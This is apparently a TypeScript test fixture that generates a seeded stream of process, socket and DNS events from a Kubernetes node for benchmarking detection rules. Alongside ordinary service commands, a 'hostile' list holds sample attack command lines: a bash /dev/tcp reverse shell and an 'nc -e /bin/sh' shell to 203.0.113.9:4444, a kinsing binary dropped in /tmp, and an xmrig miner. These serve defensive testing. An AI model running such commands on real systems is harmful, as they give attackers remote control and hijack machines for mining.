/**
 * A seeded stream of events as a busy node's agent sends them, for what detection costs: 40 % execs, 25 % exits, 15 % connects,
 * 8 % closes, 2 % accepts, 10 % DNS, by programs of ordinary services, and a few that rules are for. Pure; called by detection.ts.
 */
import type { AgentChunk } from '#collector/store/store.ts'
import type { ContainerEvent, Event, ProcessKey } from '#proto/event.ts'
import { noTotals } from '#proto/frame.ts'
import { Dice } from '#test/fixtures/chaos-plan.ts'
import { wireAccept, wireClose, wireConnect, wireDns } from '#test/fixtures/socket-events.ts'
import { wireBase, wireContainer, wireExec, wireExit } from '#test/fixtures/timeline-events.ts'

export interface StreamOptions {
  readonly events: number
  readonly seed: number
  /** Of all execs, between 0 and 1. */
  readonly hostileShare: number
}

export interface Stream {
  readonly node: string
  /** What names the containers, before the first chunk. */
  readonly containers: readonly ContainerEvent[]
  /** With consecutive numbers, of one epoch. */
  readonly chunks: readonly AgentChunk[]
}

const node = 'node-1'
const eventsPerChunk = 256
const containerCount = 20
/** Processes that live at once; more make the oldest execute again instead. */
const maxLiving = 400

/** How often each kind comes, of 100. */
const mix = [
  ...Array<'exec'>(40).fill('exec'),
  ...Array<'exit'>(25).fill('exit'),
  ...Array<'connect'>(15).fill('connect'),
  ...Array<'close'>(8).fill('close'),
  ...Array<'accept'>(2).fill('accept'),
  ...Array<'dns'>(10).fill('dns'),
] as const

type Command = readonly [exe: string, ...argv: string[]]

/** `?` becomes a number, so that texts differ as they do. */
const ordinary: readonly [Command, ...Command[]] = [
  ['/bin/sh', 'sh', '-c', 'wget -q -O /dev/null http://127.0.0.1:8080/healthz?n=? || exit 1'],
  ['/bin/busybox', 'sh', '-c', 'redis-cli -h 127.0.0.1 ping | grep -q PONG'],
  ['/bin/cat', 'cat', '/proc/loadavg'],
  ['/usr/bin/sed', 'sed', '-i', 's/listen 80/listen 80?/', '/etc/nginx/conf.d/default.conf'],
  ['/usr/bin/python3.11', 'python3', '/app/manage.py', 'process_tasks', '--queue=mail-?', '--once'],
  ['/usr/local/bin/node', 'node', '--max-old-space-size=512', '/srv/worker.js', '--shard', '?'],
  ['/usr/bin/redis-cli', 'redis-cli', '-h', '127.0.0.1', 'ping'],
  ['/usr/bin/pg_isready', 'pg_isready', '-U', 'postgres', '-h', '127.0.0.1', '-p', '5432'],
  ['/bin/grep', 'grep', '-q', 'ready', '/var/run/state-?'],
  ['/usr/bin/find', 'find', '/var/log/app', '-name', '*.log', '-mtime', '+?', '-delete'],
  ['/usr/bin/git', 'git', '-C', '/workspace/repo', 'rev-parse', '--short', 'HEAD~?'],
  [
    '/usr/lib/jvm/java-17/bin/java',
    ...['java', '-Xmx1g', '-Dspring.profiles.active=prod', '-cp', '/app/lib/a.jar:/app/lib/b.jar'],
    ...['com.example.batch.Main', '--job=invoice-?'],
  ],
  ['/bin/bash', 'bash', '/opt/scripts/rotate.sh', '--keep', '?'],
  ['/usr/bin/curl', 'curl', '-sf', 'http://payments.shop.svc.cluster.local/ready?try=?'],
  ['/bin/date', 'date', '-u', '+%Y-%m-%dT%H:%M:%SZ'],
  ['/usr/bin/tr', 'tr', '-d', '\\n'],
]

const hostile: readonly [Command, ...Command[]] = [
  ['/bin/bash', 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
  ['/bin/nc', 'nc', '-e', '/bin/sh', '203.0.113.9', '4444'],
  ['/tmp/.x/kinsing', '/tmp/.x/kinsing'],
  ['/usr/bin/xmrig', 'xmrig', '-o', 'stratum+tcp://pool.minexmr.com:4444'],
]

const servers: readonly [Command, ...Command[]] = [
  ['/usr/bin/tini', 'tini', '--', '/srv/run'],
  ['/bin/bash', 'bash', '/entrypoint.sh'],
  ['/usr/local/bin/node', 'node', '/srv/main.js'],
  ['/usr/bin/python3.11', 'python3', '-m', 'gunicorn', 'app:app'],
]

const hosts: readonly [string, ...string[]] = [
  'payments.shop.svc.cluster.local',
  'api.github.com',
  'registry.npmjs.org',
  'postgres.db.svc.cluster.local',
  'metrics.eu-central-1.amazonaws.com',
]
const ports: readonly [number, ...number[]] = [5432, 6379, 443, 8080, 80]

interface Living {
  readonly key: ProcessKey
  readonly parent: ProcessKey | undefined
  readonly containerId: string
  readonly exe: string
}

/** With the capabilities that container runtimes give. */
const root = { uid: 0, euid: 0, capabilities: 0xa80425fb }
const nobody = { uid: 1000, euid: 1000, capabilities: 0 }
const isOfRoot = (containerId: string): boolean => containerId.endsWith('1')

const containerIdOf = (index: number): string => (index + 1).toString(16).padStart(64, 'c0de')

/** The programs of a node: who lives, and what happens next. */
class Node {
  readonly #dice: Dice
  readonly #hostileShare: number
  readonly #servers: readonly Living[]
  readonly #living: Living[] = []
  readonly starts: readonly Event[]
  #pid = 10_000

  constructor({ seed, hostileShare }: StreamOptions) {
    this.#dice = new Dice(seed)
    this.#hostileShare = hostileShare
    const started = Array.from({ length: containerCount }, (_, index) =>
      this.#execute(this.#dice.pick(servers), this.#nextKey(), undefined, containerIdOf(index)),
    )
    this.#servers = started.map(({ living }) => living)
    this.starts = started.map(({ event }) => event)
  }

  next(): Event {
    const kind = mix[this.#dice.between(0, mix.length - 1)]
    if (kind === 'exec') return this.#exec()
    if (kind === 'exit') return this.#exit()
    const { key: process, exe, containerId } = this.#someone()
    const shared = { process, exe, containerId }
    const name = this.#dice.pick([...hosts])
    if (kind === 'dns') return wireDns({ ...shared, name })
    const peer = {
      address: `10.42.0.${this.#dice.between(1, 250)}`,
      port: this.#dice.pick([...ports]),
    }
    if (kind === 'accept') return wireAccept({ ...shared, peer })
    const outbound = { ...shared, peer, peerName: name }
    return kind === 'close' ? wireClose(outbound) : wireConnect(outbound)
  }

  #nextKey(): ProcessKey {
    this.#pid += 1
    return { pid: this.#pid, startNs: this.#pid * 1_000_000 }
  }

  #server(): Living {
    return this.#servers[this.#dice.between(0, containerCount - 1)] as Living
  }

  #someone(): Living {
    const last = this.#living.length - 1
    return last < 0 || this.#dice.chance(0.3)
      ? this.#server()
      : (this.#living[this.#dice.between(0, last)] as Living)
  }

  #exec(): Event {
    const command = this.#dice.pick(
      this.#dice.chance(this.#hostileShare) ? [...hostile] : [...ordinary],
    )
    const again = this.#living.length >= maxLiving ? this.#living.shift() : undefined
    const parent = this.#someone()
    const { living, event } =
      again === undefined
        ? this.#execute(command, this.#nextKey(), parent.key, parent.containerId)
        : this.#execute(command, again.key, again.parent, again.containerId)
    this.#living.push(living)
    return event
  }

  #execute(
    [exe, ...argv]: Command,
    key: ProcessKey,
    parent: ProcessKey | undefined,
    containerId: string,
  ): { readonly living: Living; readonly event: Event } {
    const number = String(this.#dice.between(0, 999_999))
    const told = argv.map((one) => one.replace('?', number))
    const event = wireExec({
      ...{ process: key, exe, containerId, argv: told, argvBytes: told.join(' ').length + 1 },
      ...(parent !== undefined && { parent, creator: parent }),
      ...(isOfRoot(containerId) ? root : nobody),
      cwd: '/srv/app',
      fileOrigin: exe.startsWith('/tmp/') ? 'dropped' : 'image',
      entry: parent === undefined ? 'init' : 'child',
    })
    return { living: { key, parent, containerId, exe }, event }
  }

  #exit(): Event {
    const { key, containerId, exe } = this.#living.shift() ?? this.#server()
    return wireExit({ process: key, containerId, exe })
  }
}

export const detectionStream = (options: StreamOptions): Stream => {
  const running = new Node(options)
  const rest = Math.max(0, options.events - containerCount)
  const events = [...running.starts, ...Array.from({ length: rest }, () => running.next())]
  const chunks: AgentChunk[] = []
  for (let at = 0; at < events.length; at += eventsPerChunk)
    chunks.push({
      ...{ agent: node, node, epoch: 1, boot: 'b00tb00t-b00t-b00t-b00t-b00tb00tb00t' },
      ...{ firstSeq: at + 1, ringId: 0, ringPosition: 0, before: noTotals, after: noTotals },
      events: events.slice(at, at + eventsPerChunk),
    })
  const containers = Array.from({ length: containerCount }, (_, index) =>
    wireContainer({
      ...{ containerId: containerIdOf(index), nameSource: 'kubelet', pod: `payments-${index}` },
      ...{ namespace: 'shop', workload: 'payments', image: 'registry.example.com/shop/payments:1' },
    }),
  )
  return { node, containers, chunks }
}

/** When all of it happened, Unix microseconds. */
export const streamUs = wireBase.timeUs
